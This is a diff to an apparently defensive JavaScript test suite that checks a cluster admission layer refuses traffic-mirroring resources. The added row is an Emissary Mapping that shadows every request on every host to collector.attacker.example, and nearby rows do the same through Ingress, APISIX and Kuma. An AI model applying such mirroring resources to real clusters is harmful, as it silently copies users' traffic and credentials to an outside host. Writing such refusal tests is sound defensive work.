@@ -50,6 +50,7 @@ describe('review47b: scripts session 47 read as data, keys run in ways it did no
     { what: 'Ingress in dev: mirror-target collector.dev. (absolute)', req: ingress('https://collector.dev.'), by: MIRRORED, refused: ALL },
     { what: 'ApisixRoute: proxy-mirror to a host outside', req: apisix('http://collector.attacker.example:9797'), by: MIRRORED, refused: ALL },
     { what: 'MeshHTTPRoute: RequestMirror to a MeshExternalService', req: kuma({ kind: 'MeshExternalService', name: 'collector' }), by: MIRRORED, refused: ALL },
+    { what: 'Emissary Mapping: shadow of every request on every host to a host outside', req: { method: 'POST', path: '/apis/getambassador.io/v3alpha1/namespaces/dev/mappings', headers: JSON_CT, body: { apiVersion: 'getambassador.io/v3alpha1', kind: 'Mapping', metadata: { name: 'm', namespace: 'dev' }, spec: { hostname: '*', prefix: '/', service: 'https://collector.attacker.example', shadow: true } } }, by: MIRRORED, refused: ALL },
   ];
   checkEscalationRows(send, rows);
 
